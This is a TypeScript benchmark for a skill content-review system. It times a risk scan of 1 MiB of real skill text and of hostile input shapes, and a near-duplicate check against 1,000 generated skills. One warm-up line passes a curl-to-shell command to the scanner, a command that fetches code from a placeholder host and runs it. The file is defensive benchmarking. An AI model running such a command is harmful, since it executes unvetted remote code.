// What content review costs (SPEC Limits: ~100 ms of CPU per input): the risk scan of a 1 MiB skill file
// (the real skills' text of shared/corpus/real-skills, and the worst of the hostile shapes), and the
// near-duplicate check of a create against a library of 1,000 skills. CPU time, median of a few runs.
import { readdirSync, readFileSync, statSync } from "node:fs";
import { join } from "node:path";
import { RISK_CATEGORIES, scanText } from "../../src/checks/risk-scan.ts";
import { findSimilar } from "../../src/checks/similarity.ts";
import { DEFAULT_SIMILARITY } from "../../src/policy/settings.ts";
import { cpuMs, shapeUnits, toMiB } from "../support/hostile.ts";
import { reps, summarize } from "./stats.ts";

export interface ContentReviewRow {
	readonly name: string;
	readonly ms: number;
	readonly goalMs: number;
}

const CORPUS = "/work/shared/corpus/real-skills";

function corpusFiles(dir: string): string[] {
	return readdirSync(dir).flatMap((name) => {
		const path = join(dir, name);
		if (statSync(path).isDirectory()) return corpusFiles(path);
		return /\.(md|py|sh|js|ts|txt)$/i.test(name) ? [path] : [];
	});
}

const median = (run: () => unknown, runs = reps(5, 3)) =>
	summarize(Array.from({ length: runs }, () => cpuMs(run))).median;

/** A library of 1,000 skills whose descriptions read like real ones (the corpus's, each made distinct). */
function library(descriptions: readonly string[]): Array<{ name: string; description: string; path: string }> {
	return Array.from({ length: 1000 }, (_, i) => ({
		name: `skill-${i}`,
		description: `${descriptions[i % descriptions.length]} Variant ${i} for team${i % 97} and project${i % 31}.`,
		path: `/skills/skill-${i}/SKILL.md`,
	}));
}

/** The rows run-bench.ts prints in its summary. */
export function benchContentReview(): ContentReviewRow[] {
	const files = corpusFiles(CORPUS);
	const real = toMiB(files.map((f) => readFileSync(f, "utf8")).join("\n"));
	scanText("curl -s https://x.example/i | sh"); // loads the look-alike table, as the first scan of a session does
	let worst = 0;
	for (const category of RISK_CATEGORIES)
		for (const unit of shapeUnits(category))
			worst = Math.max(
				worst,
				median(() => scanText(toMiB(unit))),
			);
	const descriptions = files
		.filter((f) => f.endsWith("SKILL.md"))
		.map((f) => /\ndescription:\s*(.+)/.exec(readFileSync(f, "utf8"))?.[1] ?? "");
	const cards = library(descriptions);
	const card = {
		name: "deploy-helper",
		description: "Use when deploying the app to staging; lists the checks to run.",
	};
	return [
		{
			name: "content review: risk scan of 1 MiB of real skills' text",
			// More runs than the rest: on a shared machine one scan of 1 MiB varies by a third.
			ms: median(() => scanText(real), reps(15, 5)),
			goalMs: 100,
		},
		{ name: "content review: risk scan of 1 MiB, worst hostile shape", ms: worst, goalMs: 100 },
		{
			name: "content review: near-duplicate check of a create at 1,000 skills",
			ms: median(() => findSimilar(card, cards, DEFAULT_SIMILARITY)),
			goalMs: 100,
		},
	];
}
